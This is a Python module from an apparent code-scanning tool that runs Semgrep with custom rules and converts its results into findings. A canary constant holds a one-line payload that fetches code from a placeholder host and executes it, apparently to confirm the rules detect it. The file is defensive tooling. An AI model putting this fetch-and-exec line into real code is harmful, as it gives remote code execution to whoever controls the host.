"""Semgrep, with the rules of Assay: flows from where something comes in to where it does harm."""

import hashlib
from importlib.resources import files
from pathlib import Path
from typing import Any

import msgspec

from assay.deepscan.excerpt import LONGEST_MESSAGE, LONGEST_NAME, plain
from assay.deepscan.tool import Reading, Tool, ToolFailed
from assay.deepscan.tools.environment import variables, version_of
from assay.model.deep_scan import DeepTool
from assay.model.finding import Finding, Severity

RULES = Path(str(files("assay.deepscan").joinpath("rules")))
KINDS = frozenset({"py", "js", "ts", "jsx", "tsx", "sh"})
CANARY = ("canary.py", b'import requests\nexec(requests.get("https://canary.invalid/x").text)\n')
# What is wrong with the file and not with the tool: a program that does not parse is no program for Semgrep.
UNPARSED = ("syntax", "parse", "parsing", "lexical", "otherparseerror", "astbuilder")
FILE_SECONDS, STRIKES, LARGEST_FILE = 20, 2, 2_000_000
SEVERITIES = {"ERROR": Severity.HIGH, "WARNING": Severity.MEDIUM, "INFO": Severity.LOW}
CONFIDENCE = 0.6
REMEDIATION = "Remove it, or do it in a way that whoever runs the skill can read and check."


class Position(msgspec.Struct):
    """Where a match begins."""

    line: int


class Extra(msgspec.Struct):
    """What the rule says."""

    message: str = ""
    severity: str = "WARNING"
    metadata: dict[str, Any] = {}


class Match(msgspec.Struct):
    """One match."""

    check_id: str
    path: str
    start: Position
    extra: Extra


class Problem(msgspec.Struct):
    """Something that Semgrep could not do."""

    message: str = ""
    path: str | None = None
    type: Any = None
    level: str = "error"


class Output(msgspec.Struct):
    """The parts of its JSON that are read."""

    results: list[Match]
    errors: list[Problem]


def semgrep(folder: Path, jobs: int) -> Tool | None:
    """Semgrep as it is installed in this environment; None if it is not."""
    version = version_of(folder, "semgrep")
    if version is None:
        return None
    arguments = (
        "scan --metrics=off --disable-version-check --quiet --json --no-git-ignore --no-rewrite-rule-ids"
        f" --disable-nosem --jobs {jobs} --timeout {FILE_SECONDS} --timeout-threshold {STRIKES}"
        f" --max-target-bytes {LARGEST_FILE}"
    )
    return Tool(
        name=DeepTool.SEMGREP,
        version=f"{version}+rules.{rules_version()}",
        program=lambda _place: [str(folder / "bin" / "semgrep"), *arguments.split(), "--config", str(RULES), "."],
        read=read,
        good_exits=frozenset({0, 1}),
        kinds=KINDS,
        canary=CANARY,
        environment=variables(folder) | {"SEMGREP_SEND_METRICS": "off", "SEMGREP_ENABLE_VERSION_CHECK": "0"},
        readable=[folder, RULES],
    )


def rules_version() -> str:
    """Changes when a rule does."""
    content = b"".join(file.read_bytes() for file in sorted(RULES.glob("*.yaml")))
    return hashlib.sha256(content).hexdigest()[:8]


def read(output: bytes) -> Reading:
    """Matches and problems by file."""
    try:
        said = msgspec.json.decode(output, type=Output)
    except msgspec.DecodeError as problem:
        raise ToolFailed(f"its report cannot be read: {problem}") from None
    reading = Reading([(_name(match.path), _finding(match)) for match in said.results])
    note_problems(said.errors, reading)
    return reading


def note_problems(problems: list[Problem], reading: Reading) -> None:
    """A file that is no program is a finding; one that took too long, or too much, has not been examined."""
    for problem in problems:
        if problem.path is None:
            raise ToolFailed(plain(problem.message, LONGEST_MESSAGE) or "it names no reason")
        kind = str(problem.type[0] if isinstance(problem.type, list) and problem.type else problem.type).lower()
        if any(word in kind for word in UNPARSED):
            reading.findings.append((_name(problem.path), unparsed()))
        else:
            reading.failures.append((_name(problem.path), plain(f"{kind}: {problem.message}", LONGEST_MESSAGE)))


def unparsed() -> Finding:
    """What is said of a file that the tool could not read as a program."""
    return Finding(
        rule_id="assay.unparsed",
        family="unexamined",
        severity=Severity.LOW,
        confidence=1.0,
        file="",
        line=1,
        excerpt="",
        message="This file, or a part of it, is no program that the tool can read, so it was not looked at.",
        remediation="Correct its syntax, or name it by what it is.",
    )


def _finding(match: Match) -> Finding:
    said = match.extra.metadata
    severity = SEVERITIES.get(match.extra.severity, Severity.MEDIUM)
    if said.get("assay-severity") in set(Severity):
        severity = Severity(said["assay-severity"])
    # Semgrep reads no fractions in rules.
    percent = said.get("assay-percent")
    return Finding(
        rule_id=plain(match.check_id.rpartition(".rules.")[2] or match.check_id, LONGEST_NAME),
        family=plain(str(said.get("family", "code")), LONGEST_NAME),
        severity=severity,
        confidence=percent / 100 if isinstance(percent, int) and 0 <= percent <= 100 else CONFIDENCE,
        file="",
        line=max(1, match.start.line),
        excerpt="",
        message=plain(match.extra.message, LONGEST_MESSAGE),
        remediation=plain(str(said.get("remediation", REMEDIATION)), LONGEST_MESSAGE),
    )


def _name(path: str) -> str:
    return path.removeprefix("./")
